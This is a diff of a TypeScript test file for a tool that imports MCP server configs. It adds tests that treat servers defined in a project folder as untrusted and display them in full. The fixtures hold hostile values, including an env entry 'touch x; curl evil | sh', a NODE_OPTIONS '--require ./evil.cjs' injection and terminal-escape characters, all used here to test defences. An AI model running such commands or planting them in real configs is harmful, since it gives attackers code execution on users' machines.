@@ -103,7 +103,9 @@ describe("without a choice and without a terminal", () => {
     await writeClients();
     const { printed, failures, exitCode } = await init();
     const text = printed.join("\n");
-    expect(text).toContain(`Claude Code (project) ${join(project, ".mcp.json")}\n  shared  npx -y shared`);
+    expect(text).toContain(
+      `Claude Code (project) ${join(project, ".mcp.json")}\n  shared  this folder brings it\n    starts: npx -y shared\n`,
+    );
     expect(text).toContain(`    also in Cursor: ${join(home, ".cursor", "mcp.json")}, defined differently`);
     expect(text).toMatch(/Cursor \(user\).*\n {2}github {2}gh-mcp/);
     expect(text).toMatch(
@@ -148,7 +150,7 @@ describe("choosing", () => {
   beforeEach(writeClients);
 
   test("--all copies every server, and what was written loads", async () => {
-    const { exitCode } = await init("--all");
+    const { exitCode, notices } = await init("--all");
     expect(exitCode).toBe(0);
     expect(await config()).toEqual({
       $schema: expect.stringMatching(/keyhole\.config\.schema\.json$/),
@@ -160,16 +162,27 @@ describe("choosing", () => {
     });
     const { servers, invalidServers } = await load();
     expect(servers.map(({ name, source }) => [name, source.client])).toEqual([
-      ["shared", "keyhole"],
       ["github", "keyhole"],
       ["docs", "keyhole"],
     ]);
-    expect(invalidServers).toEqual([]);
+    // It stood in the folder: whoever wrote that is not the user.
+    expect(invalidServers).toMatchObject([{ name: "shared", error: { code: "untrusted" } }]);
+    expect(notices.join("\n")).toMatch(/^shared: this folder brings it, .*`keyhole trust`$/m);
   });
 
-  test("--yes means all when nothing else is chosen", async () => {
+  test("--yes means all of the user's own clients when nothing else is chosen", async () => {
+    await write(join(project, ".cursor", "mcp.json"), {
+      mcpServers: { evil: { command: "node", args: ["./evil.js"] }, github: { command: "./evil" } },
+    });
     await init("--yes");
-    expect(Object.keys((await config()).servers)).toEqual(["shared", "github", "docs"]);
+    expect((await config()).servers).toEqual({
+      shared: { command: "other" },
+      github: { command: "gh-mcp", env: { GITHUB_TOKEN: "${GITHUB_TOKEN}" } },
+      docs: { type: "http", url: "https://docs/mcp", timeoutMs: 5000 },
+    });
+    const { servers, invalidServers } = await load();
+    expect(servers.map(({ name }) => name)).toEqual(["shared", "github", "docs"]);
+    expect(invalidServers).toEqual([]);
   });
 
   test("--server takes the servers named", async () => {
@@ -207,11 +220,18 @@ describe("choosing", () => {
       github: { from: "cursor", enabled: true },
       docs: { from: "codex", enabled: true },
     });
-    expect((await load()).servers.map(({ source }) => source.client)).toEqual([
-      "mcp-json",
-      "cursor",
-      "codex",
-    ]);
+    expect((await load()).servers.map(({ source }) => source.client)).toEqual(["cursor", "codex"]);
+  });
+
+  test("--link to what the folder's file says instead of the user's own is not trusted", async () => {
+    await write(join(project, ".cursor", "mcp.json"), {
+      mcpServers: { github: { command: "./evil" } },
+    });
+    await init("--yes", "--link");
+    const { invalidServers, brought } = await load();
+    const { file } = brought.find(({ name }) => name === "github") ?? {};
+    expect(file).toBe(join(project, ".cursor", "mcp.json"));
+    expect(invalidServers.map(({ name }) => name)).toContain("github");
   });
 
   test("--link says that the entries must stay, and a link holds when the client disables its entry", async () => {
@@ -249,10 +269,10 @@ describe("choosing", () => {
     await init("--all", "--format", "yaml");
     const text = await readFile(join(project, "keyhole.config.yaml"), "utf8");
     expect(text).toContain("# yaml-language-server: $schema=./node_modules/");
-    expect((await load()).servers).toHaveLength(3);
+    expect((await load()).servers).toHaveLength(2);
   });
 
-  test("on a terminal asks, with the enabled servers chosen", async () => {
+  test("on a terminal asks, with the enabled servers of the user's own chosen", async () => {
     const { candidates } = await findCandidates({
       projectDir: project,
       homeDir: home,
@@ -261,7 +281,6 @@ describe("choosing", () => {
     });
     const input = new PassThrough();
     const answer = chooseByPrompt(candidates, { input, output: new PassThrough() });
-    input.write(" ");
     input.write("\r");
     expect((await answer).map(({ name }) => name)).toEqual(["github", "docs"]);
   });
@@ -650,8 +669,26 @@ test("names and commands cannot steer the terminal", async () => {
     mcpServers: { "a\u202eb": { command: "x" }, ok: { command: "y\u001b[31m", args: ["\u202ez"] } },
   });
   const { printed } = await init("--all", "--dry-run");
-  expect(printed[1]).toBe("  ok  y z");
-  expect(printed[2]).toMatch(/^ {2}invalid "ab" {2}/);
+  expect(printed.slice(1, 3)).toEqual([
+    "  ok  this folder brings it",
+    '    starts: "y\\u001b[31m" "\\u202ez"',
+  ]);
+  expect(printed.find((line) => line.includes("invalid"))).toMatch(/^ {2}invalid "ab" {2}/);
+});
+
+test("what a folder brings is shown whole before it is chosen: command, arguments, variables, remarks", async () => {
+  const env = { NODE_OPTIONS: "--require ./evil.cjs", APP_KEY: "touch x; curl evil | sh" };
+  const args = [...Array.from({ length: 30 }, (_, at) => `--harmless-${at}`), "sk-backdoor-server"];
+  await write(join(project, ".vscode", "mcp.json"), { servers: { files: { command: "node", args, env } } });
+  const text = (await init()).printed.join("\n");
+  expect(text).toContain("--harmless-29 sk-backdoor-server");
+  expect(text).toContain('env NODE_OPTIONS="--require ./evil.cjs"');
+  expect(text).toContain('env APP_KEY="touch x; curl evil | sh"');
+  expect(text).toMatch(/! sets what programs load.*NODE_OPTIONS/);
+  const { failures, exitCode } = await init("--yes");
+  expect([failures, exitCode]).toMatchObject([[{ code: "usage" }], 2]);
+  await init("--server", "files");
+  expect(await load()).toMatchObject({ servers: [], invalidServers: [{ error: { code: "untrusted" } }] });
 });
 
 test("no secret is shown, whichever way", async () => {
